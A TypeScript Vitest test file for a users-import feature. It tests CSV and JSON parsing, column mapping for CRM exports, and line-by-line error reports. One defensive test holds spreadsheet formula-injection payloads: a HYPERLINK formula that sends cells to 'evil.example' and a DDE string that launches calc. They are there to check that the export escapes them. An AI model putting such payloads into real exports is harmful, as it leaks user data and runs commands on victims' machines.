// Users import: CSV through csv-parse (quotes, multi-line cells, ragged rows), JSON arrays, the
// column mapping and the checks that report a bad row by line and keep the good ones.
import { describe, expect, it } from 'vitest';
import { headerOnlyFault, parseUsersTable, parseUsersTableInSteps, previewUsers, suggestMapping, usersFromTable } from '../../../src-main/derived/users-import';
import { exportUsers } from '../../../src-main/derived/matching-commands';
import { deriveMatching } from '../../../src-shared/matching/matcher';
import { DEFAULTS } from './helpers';

describe('users import', () => {
  it('reads a JSON file that starts with a byte-order mark, as it reads such a CSV file', async () => {
    const json = '\uFEFF[{"id":"u1","username":"ada","email":"ada@example.com"}]';
    for (const table of [parseUsersTable(json), await parseUsersTableInSteps(json, () => undefined)]) {
      expect(table.errors).toEqual([]);
      expect(table.rows.map((r) => r.values)).toEqual([{ id: 'u1', username: 'ada', email: 'ada@example.com' }]);
    }
    expect(parseUsersTable('\uFEFFid,username\nu1,ada\n').rows.map((r) => r.values)).toEqual([{ id: 'u1', username: 'ada' }]);
  });

  it('maps a Username column to username when a User ID column comes before it (a Product Fruits export)', () => {
    // "User ID" was taken as the username, and the real Username column became a property: every
    // userId then missed its user.
    expect(suggestMapping(['User ID', 'Username', 'Email', 'Plan'])).toEqual({ 'User ID': 'id', Username: 'username', Email: 'email', Plan: 'property' });
    expect(suggestMapping(['id', 'user_id', 'username', 'email'])).toEqual({ id: 'id', user_id: 'property', username: 'username', email: 'email' });
    // Without a Username column, a userId column is still what the rule compares the userId with.
    expect(suggestMapping(['id', 'userId', 'email'])).toEqual({ id: 'id', userId: 'username', email: 'email' });
    expect(suggestMapping(['Login', 'User ID'])).toEqual({ Login: 'username', 'User ID': 'id' });
  });

  it('reads quoted and multi-line CSV cells and names ragged rows by line', () => {
    const csv = ['username,email,note', 'ada,ada@example.com,"likes ""quotes"", commas"', 'bob,bob@example.com,"two', 'lines"', 'cy,cy@example.com', 'dee,dee@example.com,ok'].join('\n');
    const table = parseUsersTable(csv);
    expect(table.columns).toEqual(['username', 'email', 'note']);
    const { users, errors } = usersFromTable(table, suggestMapping(table.columns), new Set());
    expect(users.map((u) => [u.id, u.username, u.properties.note])).toEqual([
      ['user-1', 'ada', 'likes "quotes", commas'],
      ['user-2', 'bob', 'two\nlines'],
      ['user-3', 'dee', 'ok'],
    ]);
    expect(errors).toEqual([{ line: 5, message: '2 fields, but the header names 3 columns' }]);
  });

  it('a header that names a column twice is refused at its line, naming the column and both places', async () => {
    // The later cell was read over the earlier one: the preview showed "c@d" under both email
    // columns, neither was mapped to email, and every row was refused as having no email.
    const csv = 'id,email,plan,email\nu1,a@b.io,pro,c@d.io\n';
    const message = 'the header names column "email" twice (columns 2 and 4); rename one (each row\'s cells would be read into one field), then import again';
    for (const table of [parseUsersTable(csv), await parseUsersTableInSteps(csv, () => undefined)]) {
      expect(table.rows).toEqual([]);
      expect(table.errors).toEqual([{ line: 1, message }]);
    }
    expect(previewUsers(csv)).toMatchObject({ rows: [], errors: [{ line: 1, message }] });
    // A header trimmed to the same name is the same column; columns without a name (trailing commas) are not refused.
    expect(parseUsersTable('id, email,email \nu1,a,b\n').errors).toEqual([{ line: 1, message: message.replace('2 and 4', '2 and 3') }]);
    expect(parseUsersTable('id,email,,\nu1,a@b.io,,\n')).toMatchObject({ errors: [], rows: [{ values: { id: 'u1', email: 'a@b.io' } }] });
  });

  it('a row of one field says "1 field" (it said "1 fields")', () => {
    const table = parseUsersTable('username,email\nada');
    expect(usersFromTable(table, suggestMapping(table.columns), new Set()).errors).toEqual([{ line: 2, message: '1 field, but the header names 2 columns' }]);
  });

  it('reports an unclosed quote at its line instead of failing the import', () => {
    const table = parseUsersTable('username,email\nada,ada@example.com\nbob,"bob@example.com\n');
    expect(table.rows).toHaveLength(1);
    expect(table.errors[0]).toMatchObject({ line: 3 });
  });

  it('applies a mapping: renamed columns, ignored columns, ids given or assigned past those in use', () => {
    const table = parseUsersTable('Login,Mail,plan,secret\nada,ada@example.com,pro,x\nbob,,free,y\n');
    const mapping = { Login: 'username', Mail: 'email', plan: 'property', secret: 'ignore' } as const;
    const { users } = usersFromTable(table, mapping, new Set(['user-1']));
    expect(users).toEqual([
      { id: 'user-2', username: 'ada', email: 'ada@example.com', properties: { plan: 'pro' } },
      { id: 'user-3', username: 'bob', properties: { plan: 'free' } },
    ]);
  });

  it('names each bad row: no identity, a repeated id, a non-text value (an email without @ is a warning)', () => {
    const json = JSON.stringify([{ id: 'a', email: 'a@example.com' }, { id: 'b' }, { id: 'c', email: 'nope' }, { id: 'a', username: 'again' }, { username: true }]);
    const table = parseUsersTable(json);
    const { users, errors, warnings } = usersFromTable(table, suggestMapping(table.columns), new Set());
    // An email without "@" is kept, with a warning: the rule creates users with such emails.
    expect(users.map((u) => u.id)).toEqual(['a', 'c']);
    expect(warnings).toEqual([{ line: 3, message: 'email "nope" has no "@": imported as it is (matching compares it as text, as it does a message\'s email)' }]);
    expect(errors).toEqual([
      { line: 2, message: 'neither a username ("username") nor an email ("email"): the rule could never find this user' },
      { line: 4, message: 'id "a" is already used on line 1' },
      { line: 5, message: 'username ("username") is a boolean, not text' },
    ]);
  });

  // "1234" (or any one line naming nothing the rule reads) was taken as a header with no rows: 0 users, no error.
  it('a lone line that names no id, username or email column is a fault of the file, at line 1', () => {
    const fault = (text: string) => {
      const table = parseUsersTable(text);
      return headerOnlyFault(table, suggestMapping(table.columns, table.format));
    };
    expect(fault('1234')).toBe('line 1 ("1234") was read as the header row, but it names no id, username or email column and no row follows it: nothing to import (a users file is a header row naming its columns, such as "id,email", then a row per user)');
    expect(fault('\n\n1234\n')).toMatch(/^line 3 \("1234"\) was read as the header row/);
    expect(fault('plan;notes')).toMatch(/^line 1 \("plan;notes"\) was read as the header row/);
    expect(fault(`${'x'.repeat(100)}`)).toContain(`("${'x'.repeat(40)}…")`);
    // A header naming a column the rule reads is a file with no users yet (a replace with it empties the directory).
    expect(fault('id,email\n')).toBeUndefined();
    expect(fault('Login')).toBeUndefined();
    // Rows, even bad ones, are reported by line as before; JSON says what it holds.
    expect(fault('1234\n5678\n')).toBeUndefined();
    expect(fault('[]')).toBeUndefined();
    // The column mapped by hand to email is one the rule reads.
    const table = parseUsersTable('1234');
    expect(headerOnlyFault(table, { '1234': 'email' })).toBeUndefined();
  });

  // Two users of one email (but for case or spacing, as matching compares by default): a message's
  // email finds only one of them. Both are imported; the later row says so, naming both and the email.
  it('warns of two users with different ids and the same email, in the file or against the directory', () => {
    const csv = 'id,email\nu-ada,ada@example.com\nu-bob,bob@example.com\nu-ada2, ADA@Example.com\nu-ada3,ada@example.com\nu-cy,cy@example.com\n';
    const table = parseUsersTable(csv);
    const { users, errors, warnings } = usersFromTable(table, suggestMapping(table.columns), new Set(), [
      { id: 'u-old', email: 'Cy@example.com', properties: {} },
      // Replaced by the import's own u-bob: no longer there to be confused with.
      { id: 'u-bob', email: 'bobby@example.com', properties: {} },
      { id: 'u-zed', email: 'zed@example.com', properties: {} },
    ]);
    expect(users.map((u) => u.id)).toEqual(['u-ada', 'u-bob', 'u-ada2', 'u-ada3', 'u-cy']);
    expect(errors).toEqual([]);
    expect(warnings).toEqual([
      { line: 4, message: 'id "u-ada2" has the same email as id "u-ada" (line 2) but for case or spacing, which matching ignores by default (" ADA@Example.com" and "ada@example.com"): a message with it finds only one of them (see Duplicates)' },
      { line: 5, message: 'id "u-ada3" has the same email as id "u-ada" (line 2), "ada@example.com": a message with it finds only one of them (see Duplicates)' },
      { line: 6, message: 'id "u-cy" has the same email as id "u-old" (already in the directory) but for case or spacing, which matching ignores by default ("cy@example.com" and "Cy@example.com"): a message with it finds only one of them (see Duplicates)' },
    ]);
    // A row that gives its own id again (an error) or an assigned id is named by what it gets.
    const json = parseUsersTable(JSON.stringify([{ email: 'a@x.io' }, { email: 'a@x.io' }]));
    expect(usersFromTable(json, suggestMapping(json.columns, json.format), new Set()).warnings).toEqual([
      { line: 2, message: 'id "user-2" has the same email as id "user-1" (line 1), "a@x.io": a message with it finds only one of them (see Duplicates)' },
    ]);
  });

  it('rejects a mapping that names a missing column or maps two columns to one field', () => {
    const table = parseUsersTable('a,b\n1,2\n');
    expect(() => usersFromTable(table, { zzz: 'email' }, new Set())).toThrow(/names column "zzz", which the file does not have/);
    expect(() => usersFromTable(table, { a: 'email', b: 'email' }, new Set())).toThrow(/columns "a" and "b" are both mapped to email/);
  });

  it('reads a large CSV in steps with progress, giving the same table as one pass (quotes, emoji across steps)', async () => {
    const lines = ['id,username,email,note'];
    for (let i = 0; i < 12_000; i++) lines.push(i % 1000 === 7 ? `u${i},user${i},u${i}@example.com,"multi` + '\n' + `line 😀"` : `u${i},user${i},u${i}@example.com,note 😀 ${i}`);
    lines.splice(500, 0, 'bad,row'); // line 502: one multi-line cell comes before it
    const csv = lines.join('\n');
    const progress: number[] = [];
    const stepped = await parseUsersTableInSteps(csv, (done, total) => {
      expect(total).toBe(csv.length);
      progress.push(done);
    });
    expect(stepped).toEqual(parseUsersTable(csv));
    expect(stepped.rows).toHaveLength(12_000);
    expect(stepped.errors).toEqual([{ line: 502, message: '2 fields, but the header names 4 columns' }]);
    expect(progress.length).toBeGreaterThan(1);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
    expect(progress.at(-1)).toBe(csv.length);
  });

  it("a JSON user's properties object holds its properties (as GET /api/users and a saved scenario write them)", () => {
    const json = JSON.stringify([{ id: 'u1', username: 'ada', email: 'ada@example.com', properties: { plan: 'pro', id: 7, email: 'old@example.com' }, seats: 3 }, { id: 'u2', username: 'bob', properties: 'not an object' }]);
    const table = parseUsersTable(json);
    const { users, errors } = usersFromTable(table, suggestMapping(table.columns), new Set());
    expect(errors).toEqual([]);
    // A trait named id or email stays a property; it was a property named "properties".
    expect(users).toEqual([
      { id: 'u1', username: 'ada', email: 'ada@example.com', properties: { plan: 'pro', id: 7, email: 'old@example.com', seats: 3 } },
      { id: 'u2', username: 'bob', properties: { properties: 'not an object' } },
    ]);
    // CSV has no objects: a column named properties is a property like any other.
    const csv = parseUsersTable('username,properties\nada,plan pro\n');
    expect(usersFromTable(csv, suggestMapping(csv.columns), new Set()).users[0].properties).toEqual({ properties: 'plan pro' });
  });

  it('previews the first rows with a suggested mapping', () => {
    const p = previewUsers('id,user_name,E-mail,plan\n1,ada,ada@example.com,pro\n');
    expect(p).toMatchObject({ format: 'csv', columns: ['id', 'user_name', 'E-mail', 'plan'], total: 1, mapping: { id: 'id', user_name: 'username', 'E-mail': 'email', plan: 'property' } });
    expect(p.rows).toEqual([{ line: 2, values: ['1', 'ada', 'ada@example.com', 'pro'] }]);
    // The first 5 rows only; the total counts every row, the refused ones too.
    const many = previewUsers(['id,username', ...Array.from({ length: 7 }, (_, i) => `${i},u${i}`), '"unclosed,x'].join('\n'));
    expect(many.rows.map((r) => r.line)).toEqual([2, 3, 4, 5, 6]);
    expect([many.total, many.errors.length]).toEqual([8, 1]);
    expect(previewUsers('{"not":"an array"}').errors[0].message).toMatch(/must be an array/);
  });

  it("users.starting's users: propertiesJson, read as the digits of properties and never imported as a column, is not listed; properties shows those digits", () => {
    const big = '9007199254740993';
    const starting = `[{"id":"u-1","email":"a@example.com","properties":{"seats":9007199254740992,"plan":"pro"},"propertiesJson":"{\\"seats\\":${big},\\"plan\\":\\"pro\\"}"},{"id":"u-2","username":"bo","properties":{}}]`;
    const p = previewUsers(starting);
    expect(p.columns).toEqual(['id', 'email', 'properties', 'username']);
    expect(Object.keys(p.mapping)).toEqual(['id', 'email', 'properties', 'username']);
    expect(p.rows[0].values).toEqual(['u-1', 'a@example.com', `{"seats":${big},"plan":"pro"}`, '']);
    // What the preview lists is what is imported: the mapping it suggests gives the same digits.
    const table = parseUsersTable(starting);
    expect(String(usersFromTable(table, p.mapping, new Set()).users[0].properties.seats)).toContain(big);
    // A propertiesJson that is no text of the properties (no properties object beside it) is a property: listed.
    const own = previewUsers('[{"id":"u-1","username":"ada","propertiesJson":"{}"}]');
    expect(own.columns).toEqual(['id', 'username', 'propertiesJson']);
    expect(own.mapping.propertiesJson).toBe('property');
    // One such user beside users.starting's: the column is listed, for that user's sake.
    const mixed = previewUsers(`[${starting.slice(1, -1)},{"id":"u-3","username":"cy","propertiesJson":"{}"}]`);
    expect(mixed.columns).toEqual(['id', 'email', 'properties', 'propertiesJson', 'username']);
    expect(mixed.mapping.propertiesJson).toBe('property');
    // Row by row as imported: u-1's digits in properties and no propertiesJson property; cy's text a property.
    expect(mixed.rows.map((r) => r.values)).toEqual([
      ['u-1', 'a@example.com', `{"seats":${big},"plan":"pro"}`, '', ''],
      ['u-2', '', '{}', '', 'bo'],
      ['u-3', '', '', '{}', 'cy'],
    ]);
    const imported = usersFromTable(parseUsersTable(`[${starting.slice(1, -1)},{"id":"u-3","username":"cy","propertiesJson":"{}"}]`), mixed.mapping, new Set()).users;
    expect(String(imported[0].properties.seats)).toContain(big);
    expect(Object.keys(imported[0].properties)).toEqual(['seats', 'plan']);
    expect(imported[2].properties).toEqual({ propertiesJson: '{}' });
    // A CSV's propertiesJson is a column like any other, even with every cell empty (a row leaves an empty cell out).
    expect(previewUsers('id,propertiesJson\n1,\n2,\n').columns).toEqual(['id', 'propertiesJson']);
  });

  it('exports the directory as CSV with quoting, and as JSON', () => {
    const { users } = deriveMatching([{ id: 'a', username: 'ada', email: 'ada@example.com', properties: { note: 'says "hi", twice' } }], DEFAULTS, []);
    expect(exportUsers(users, 'csv')).toBe('id,username,email,note\na,ada,ada@example.com,"says ""hi"", twice"\n');
    expect(JSON.parse(exportUsers(users, 'json'))).toEqual([{ id: 'a', username: 'ada', email: 'ada@example.com', properties: { note: 'says "hi", twice' }, createdBy: null, changedBy: [] }]);
  });
  it('a cell a spreadsheet would run as a formula is exported behind an apostrophe, and read back as it was', () => {
    // A captured userId or trait (any web page can post to a webhook) became a live formula in
    // Excel or Sheets: =HYPERLINK(...) sends the other cells, the emails, wherever it points.
    const formula = '=HYPERLINK("http://evil.example/?"&C3,"Open")';
    const { users } = deriveMatching(
      [
        { id: formula, username: '+1+cmd|\' /C calc\'!A0', email: 'ada@example.com', properties: { plan: '@SUM(1)', score: '-5', tab: '\tx', '=key': "'=kept", n: '-2+3' } },
        { id: 'u2', username: "'-quoted", email: 'bob@example.com', properties: { plan: 'pro', score: '+7', tab: '', n: '1e5' } },
      ],
      DEFAULTS,
      [],
    );
    const csv = exportUsers(users, 'csv');
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe("id,username,email,'=key,n,plan,score,tab");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&C3,""Open"")",'+1+cmd|' /C calc'!A0,ada@example.com,''=kept,'-2+3,'@SUM(1),-5,'\tx`);
    // An empty text is a quoted empty cell: read back as '' (an unquoted empty cell is no value).
    expect(lines[2]).toBe(`u2,''-quoted,bob@example.com,,1e5,pro,+7,""`);
    // Imported again (the directory's own export is a valid import), every cell is what it was.
    const table = parseUsersTable(csv);
    expect(table.columns).toEqual(['id', 'username', 'email', '=key', 'n', 'plan', 'score', 'tab']);
    const back = usersFromTable(table, suggestMapping(table.columns), new Set());
    expect(back.errors).toEqual([]);
    expect(back.users.map((u) => [u.id, u.username, u.properties])).toEqual([
      [formula, "+1+cmd|' /C calc'!A0", { '=key': "'=kept", n: '-2+3', plan: '@SUM(1)', score: '-5', tab: '\tx' }],
      ['u2', "'-quoted", { n: '1e5', plan: 'pro', score: '+7', tab: '' }],
    ]);
  });

  it('columns named like Object.prototype members are columns like any other (CSV and JSON)', () => {
    // An empty "constructor" cell read Object's constructor, and a "__proto__" column was lost.
    const csv = parseUsersTable('username,constructor,__proto__,toString\nada,,p1,t1\nbob,c2,,\n');
    const fromCsv = usersFromTable(csv, suggestMapping(csv.columns), new Set());
    expect(fromCsv.errors).toEqual([]);
    expect(fromCsv.users.map((u) => [u.username, Object.entries(u.properties)])).toEqual([
      ['ada', [['__proto__', 'p1'], ['toString', 't1']]],
      ['bob', [['constructor', 'c2']]],
    ]);
    const json = parseUsersTable('[{"username":"cy","__proto__":{"plan":"x"},"constructor":"c"},{"username":"dee"}]');
    const fromJson = usersFromTable(json, suggestMapping(json.columns), new Set());
    expect(fromJson.users.map((u) => [u.username, Object.entries(u.properties)])).toEqual([
      ['cy', [['__proto__', { plan: 'x' }], ['constructor', 'c']]],
      ['dee', []],
    ]);
    expect(previewUsers('username,constructor\nada,\n').rows[0].values).toEqual(['ada', '']);
  });

  it('a file that quotes every cell, header included (PowerShell\'s Export-Csv, Python\'s QUOTE_ALL), writes "" for an empty cell: no value', () => {
    const quoteAll = '"Id","Email","Plan","Nick"\r\n"u1","a@x.io","","Al"\r\n"u2","b@x.io","pro",""\r\n';
    expect(usersFromTable(parseUsersTable(quoteAll), suggestMapping(['Id', 'Email', 'Plan', 'Nick']), new Set()).users).toEqual([
      { id: 'u1', email: 'a@x.io', properties: { Nick: 'Al' } },
      { id: 'u2', email: 'b@x.io', properties: { Plan: 'pro' } },
    ]);
    // One that quotes only where a cell needs it (Excel, Eventbench's own export): "" is an empty text.
    const someQuoted = 'id,email,plan,nick\nu1,a@x.io,"",Al\n';
    expect(usersFromTable(parseUsersTable(someQuoted), suggestMapping(['id', 'email', 'plan', 'nick']), new Set()).users).toEqual([{ id: 'u1', email: 'a@x.io', properties: { plan: '', nick: 'Al' } }]);
    const headerPlain = 'id,email,plan\n"u1","a@x.io",""\n';
    expect(usersFromTable(parseUsersTable(headerPlain), suggestMapping(['id', 'email', 'plan']), new Set()).users[0].properties).toEqual({ plan: '' });
  });

  it('a JSON file saved from GET /api/users imports its users; sources, createdBy and touchedBy (the live directory\'s record) are left out', () => {
    // `curl /api/users > users.json`, imported as the starting directory of another run.
    const saved = JSON.stringify([
      { id: 'u1', username: 'ada', email: 'ada@example.com', properties: { plan: 'pro' }, sources: { email: { seq: 4, at: '2026-12-05T10:00:00.000Z' } }, createdBy: null, touchedBy: [4] },
      { id: 'new-7', username: 'bob', properties: {}, sources: {}, createdBy: 7, touchedBy: [7, 9] },
    ]);
    const table = parseUsersTable(saved);
    expect(suggestMapping(table.columns, table.format)).toEqual({ id: 'id', username: 'username', email: 'email', properties: 'property', sources: 'ignore', createdBy: 'ignore', touchedBy: 'ignore' });
    expect(previewUsers(saved).mapping).toEqual(suggestMapping(table.columns, 'json'));
    const { users, errors } = usersFromTable(table, suggestMapping(table.columns, table.format), new Set());
    expect(errors).toEqual([]);
    expect(users).toEqual([
      { id: 'u1', username: 'ada', email: 'ada@example.com', properties: { plan: 'pro' } },
      { id: 'new-7', username: 'bob', properties: {} },
    ]);
    // Without a properties object the file is no export: a CRM's "sources" or "createdBy" is a property
    // like any other, in JSON and in CSV (whose export never writes those columns).
    const crm = '[{"email":"cy@example.com","sources":"webinar","createdBy":"Grace","touchedBy":"Alan"}]';
    const noExport = { email: 'email', sources: 'property', createdBy: 'property', touchedBy: 'property' };
    expect(previewUsers(crm).mapping).toEqual(noExport);
    expect(suggestMapping(['email', 'properties', 'sources', 'createdBy', 'touchedBy'], 'csv')).toEqual({ ...noExport, properties: 'property' });
    expect(suggestMapping(['email', 'properties', 'sources', 'createdBy', 'touchedBy'])).toEqual({ ...noExport, properties: 'property' });
  });

  it('guesses "Contact ID" (a CRM\'s contact key) as the id column', () => {
    expect(suggestMapping(['Contact ID', 'Email', 'contact_id'])).toEqual({ 'Contact ID': 'id', Email: 'email', contact_id: 'property' });
  });

  it('guesses a CRM export\'s record id (HubSpot\'s "Record ID", Zoho\'s "Record Id") as the id column', async () => {
    // They were properties, and every user was given user-1, user-2…: importing the next export
    // of the same contacts added them all again instead of replacing them.
    const hubspot = '"Record ID","First Name","Last Name","Email","Phone Number","Contact owner","Last Activity Date"\r\n'
      + '"51","Ada","Lovelace","ada@example.com","+44 20 7946 0000","Grace Hopper","2026-11-30 14:02"\r\n'
      + '"101","Alan","Turing","alan@example.com","","Grace Hopper",""\r\n';
    const zoho = 'Record Id,First Name,Last Name,Email,Phone\nzcrm_5109130000000431001,Ada,Lovelace,ada@example.com,+44 20 7946 0000\nzcrm_5109130000000431002,Alan,Turing,alan@example.com,\n';
    expect(suggestMapping(['Record ID', 'First Name', 'Last Name', 'Email', 'Phone Number', 'Contact owner', 'Last Activity Date'])).toEqual({
      'Record ID': 'id', 'First Name': 'property', 'Last Name': 'property', Email: 'email', 'Phone Number': 'property', 'Contact owner': 'property', 'Last Activity Date': 'property',
    });
    expect(suggestMapping(['Record Id', 'First Name', 'Last Name', 'Email', 'Phone'])).toEqual({ 'Record Id': 'id', 'First Name': 'property', 'Last Name': 'property', Email: 'email', Phone: 'property' });
    // The property's internal name, as an export with internal names (or the API) writes it; case and spaces aside.
    expect(suggestMapping(['hs_object_id', 'email'])).toEqual({ hs_object_id: 'id', email: 'email' });
    expect(suggestMapping(['RECORD_ID', 'Email'])).toEqual({ RECORD_ID: 'id', Email: 'email' });
    for (const text of [hubspot, zoho]) {
      for (const table of [parseUsersTable(text), await parseUsersTableInSteps(text, () => undefined)]) {
        expect(table.errors).toEqual([]);
        const { users, errors } = usersFromTable(table, suggestMapping(table.columns), new Set(['user-1']));
        expect(errors).toEqual([]);
        expect(users.map((u) => [u.id, u.email])).toEqual(text === hubspot ? [['51', 'ada@example.com'], ['101', 'alan@example.com']] : [['zcrm_5109130000000431001', 'ada@example.com'], ['zcrm_5109130000000431002', 'alan@example.com']]);
        expect(users[0].properties).toMatchObject({ 'First Name': 'Ada', 'Last Name': 'Lovelace' });
        expect(Object.keys(users[0].properties)).not.toContain(text === hubspot ? 'Record ID' : 'Record Id');
      }
    }
  });

  it('reads a Salesforce custom field\'s API name (Username__c, Email__c) as the field it names', () => {
    // A Data Loader export names a custom field by its API name: "Username__c" was a property, so the
    // username the rule compares a userId with was not in the directory until mapped by hand.
    expect(suggestMapping(['Id', 'FirstName', 'Email', 'Username__c', 'Plan__c'])).toEqual({ Id: 'id', FirstName: 'property', Email: 'email', Username__c: 'username', Plan__c: 'property' });
    expect(suggestMapping(['Contact ID', 'Email__c', 'Login__C'])).toEqual({ 'Contact ID': 'id', Email__c: 'email', Login__C: 'username' });
    // Only the suffix: a name that merely ends in "c" is not cut.
    expect(suggestMapping(['Emailc', 'Email'])).toEqual({ Emailc: 'property', Email: 'email' });
  });

  it('takes a CRM record id as the id only when no other column is one: no recognised column changes meaning', () => {
    // An Id (PF id, Directory id, Contact ID) stays the id wherever the record id stands.
    for (const idCol of ['Id', 'PF id', 'Directory id', 'Contact ID']) {
      expect(suggestMapping(['Record ID', idCol, 'Email'])).toEqual({ 'Record ID': 'property', [idCol]: 'id', Email: 'email' });
      expect(suggestMapping([idCol, 'Record Id', 'Email'])).toEqual({ [idCol]: 'id', 'Record Id': 'property', Email: 'email' });
    }
    // A "User ID" beside a Username is the directory id when no Id column is there: a record id does not take that from it.
    expect(suggestMapping(['Record ID', 'User ID', 'Username', 'Email'])).toEqual({ 'Record ID': 'property', 'User ID': 'id', Username: 'username', Email: 'email' });
    // Without a Username, "User ID" is the username, and the record id the id.
    expect(suggestMapping(['Record ID', 'User ID', 'Email'])).toEqual({ 'Record ID': 'id', 'User ID': 'username', Email: 'email' });
    // Two record ids: the first is the id.
    expect(suggestMapping(['Record ID', 'hs_object_id', 'Email'])).toEqual({ 'Record ID': 'id', hs_object_id: 'property', Email: 'email' });
    // Names that only contain the words stay properties.
    expect(suggestMapping(['Record ID (Company)', 'Associated Record ID', 'Email'])).toEqual({ 'Record ID (Company)': 'property', 'Associated Record ID': 'property', Email: 'email' });
  });

  it('reads a CRM export separated by semicolons (Excel in much of Europe), BOM, CRLF and quoted line breaks', async () => {
    // Every row was refused as "Invalid Closing Quote": the file was read as comma-separated.
    const csv = '\uFEFF"Contact ID";"E-mail Address";"Login";"Company";"Notes"\r\n"C1";"Ada@Example.com";"ada";"Acme, Inc";"two\r\nlines; ok"\r\n"C2";"ada@example.com";"ada2";"B; C";""\r\n';
    for (const table of [parseUsersTable(csv), await parseUsersTableInSteps(csv, () => undefined)]) {
      expect(table.errors).toEqual([]);
      expect(table.columns).toEqual(['Contact ID', 'E-mail Address', 'Login', 'Company', 'Notes']);
      const { users, errors } = usersFromTable(table, suggestMapping(table.columns), new Set());
      expect(errors).toEqual([]);
      // "Contact ID" is the id; the file quotes every cell, so its "" is an empty cell, no value
      // (it was the id-less users' property "Contact ID", and Notes: '').
      expect(users).toEqual([
        { id: 'C1', username: 'ada', email: 'Ada@Example.com', properties: { Company: 'Acme, Inc', Notes: 'two\r\nlines; ok' } },
        { id: 'C2', username: 'ada2', email: 'ada@example.com', properties: { Company: 'B; C' } },
      ]);
    }
    expect(parseUsersTable('a\tb\n1\t2\n').columns).toEqual(['a', 'b']);
    expect(parseUsersTable('"a;b",c\n1,2\n').columns).toEqual(['a;b', 'c']);
  });
});
